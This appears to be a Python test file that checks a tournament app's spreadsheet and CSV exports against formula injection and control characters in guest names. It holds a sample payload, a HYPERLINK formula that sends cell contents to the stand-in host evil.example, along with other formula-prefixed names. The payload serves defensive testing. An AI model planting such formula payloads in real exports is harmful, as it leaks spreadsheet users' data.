"""A hostile pass over the files a tournament and a club export (after issue 48): a name
a guest signs up with reaches the director's spreadsheets. A name starting with `=` ran
as a formula in the `.xlsx` workbook and in the CSV files; a control character in one
made the whole `.xlsx` download fail (500) for everyone. In-process, both backends."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
from odf.opendocument import load
from odf.table import TableCell
from openpyxl import load_workbook

from tests.server.addressed import an_app_at_addresses, guest_at
from tests.server.in_process import run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Zoë")'
BELL = "Bell\x07man"


async def ok(answer: httpx.Response, status: int = 200) -> Any:
    assert answer.status_code == status, answer.text
    return answer.json()


def test_names_from_sign_up_are_text_in_every_export(migrated_url: str) -> None:
    async def scenario() -> None:
        async with an_app_at_addresses(migrated_url, rate_limits=None) as app:
            boss, _me = await guest_at(app, "10.0.0.1", "Boss")
            body = {"name": "=1+1 evening", "rounds": 1, "round_minutes": None}
            tid = (await ok(await boss.post("/api/tournaments", json=body), 201))["id"]
            await ok(await boss.post(f"/api/tournaments/{tid}/signup", json={"open": True}))
            for n, name in enumerate((FORMULA, BELL, "@SUM(1)", "Anna")):
                guest, _g = await guest_at(app, f"10.0.1.{n}", f"G{n}")
                await ok(await guest.post(f"/api/tournaments/{tid}/join", json={"name": name}))
                await guest.aclose()
            page = await ok(await boss.get(f"/api/tournaments/{tid}"))
            assert BELL not in str(page) and "Bellman" in str(page)  # cleaned on the way in
            book = await boss.get(f"/api/tournaments/{tid}/workbook.xlsx")
            assert book.status_code == 200, book.text
            sheets = load_workbook(io.BytesIO(book.content))
            texts = [c for ws in sheets for row in ws.iter_rows() for c in row if c.value]
            assert not [c.coordinate for c in texts if c.data_type == "f"]
            assert FORMULA in {c.value for c in texts}  # shown as it is, as text
            standings = await boss.get(f"/api/tournaments/{tid}/standings.csv?lang=en")
            cells = {c for row in csv.reader(io.StringIO(standings.text)) for c in row}
            assert "'" + FORMULA in cells and "'@SUM(1)" in cells and FORMULA not in cells
            await boss.aclose()

    run(scenario)


def test_a_control_character_already_stored_does_not_break_the_workbook(
    migrated_url: str,
) -> None:
    """Names stored before the cleaning (or entered on the command line) still export."""

    async def scenario() -> None:
        async with an_app_at_addresses(migrated_url, rate_limits=None) as app:
            boss, _me = await guest_at(app, "10.0.0.1", "Boss")
            body = {"name": "Evening", "rounds": 1, "round_minutes": None}
            tid = (await ok(await boss.post("/api/tournaments", json=body), 201))["id"]
            store = app.state.services.tournaments.store
            await store.act(tid, lambda t: t.register(BELL, "cli", None))
            book = await boss.get(f"/api/tournaments/{tid}/workbook.xlsx")
            assert book.status_code == 200, book.text
            ods = await boss.get(f"/api/tournaments/{tid}/workbook.ods")
            assert ods.status_code == 200
            document = load(io.BytesIO(ods.content))
            texts = {str(c) for c in document.spreadsheet.getElementsByType(TableCell)}
            assert "Bellman" in texts and BELL not in texts
            await boss.aclose()

    run(scenario)
